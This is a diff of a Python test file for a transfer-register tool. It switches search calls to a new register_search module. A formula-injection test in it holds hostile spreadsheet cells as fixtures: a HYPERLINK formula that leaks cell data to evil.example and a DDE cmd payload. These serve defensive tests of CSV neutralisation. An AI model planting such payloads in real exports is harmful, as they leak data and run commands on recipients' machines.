@@ -18,7 +18,7 @@ from sqlalchemy import String, select
 
 from tests import factories
 from tests.conftest import _truncate_pg
-from transfer_tool import audit, entities, register_import, transfer_csv, transfers
+from transfer_tool import audit, entities, register_import, register_search, transfer_csv, transfers
 from transfer_tool.countries import store
 from transfer_tool.csv_safety import neutralise
 from transfer_tool.domain import Role
@@ -126,14 +126,14 @@ def test_a_50_mb_csv_is_refused_by_size(db: Database, legal: Actor) -> None:
 def test_a_utf8_byte_order_mark_is_accepted(db: Database, legal: Actor) -> None:
     """Excel's 'CSV UTF-8' starts with a BOM: accepted, and the first column name is read correctly."""
     assert register_import.import_csv(db, legal, _bad("csv/bom-utf8.csv")).created == 1
-    (row,) = transfers.search(db)
+    (row,) = register_search.search(db)
     assert row.reference == "BOM-1"
     assert row.title == "Payroll 給与"
 
 
 def test_formula_cells_are_imported_as_text_and_exported_neutralised(db: Database, legal: Actor) -> None:
     assert register_import.import_csv(db, legal, _bad("csv/formula-injection.csv")).created == 1
-    t = transfers.get_transfer(db, transfers.search_ids(db)[0])
+    t = transfers.get_transfer(db, register_search.search_ids(db)[0])
     cells = {
         "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
         "exporter": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -321,13 +321,13 @@ def test_hostile_text_in_a_transfer_round_trips_or_is_refused_by_field(
     exporter = factories.entity(db, legal)
     importer = factories.entity(db, legal, "Helpdesk Inc.", "US")
     data = replace(factories.transfer_input(exporter.id, importer.id, "US"), **{field: value})  # type: ignore[arg-type]
-    before = transfers.search_ids(db)
+    before = register_search.search_ids(db)
     try:
         saved = transfers.create_transfer(db, legal, data)
     except ValidationError as exc:
         assert _must_refuse(Transfer, field, value) or key == "nul", f"refused: {exc.details()}"
         assert [p.location for p in exc.problems] == [field]
-        assert transfers.search_ids(db) == before
+        assert register_search.search_ids(db) == before
         return
     assert not _must_refuse(Transfer, field, value), f"{field} accepted {len(value)} characters"
     assert getattr(transfers.get_transfer(db, saved.id), field) == value
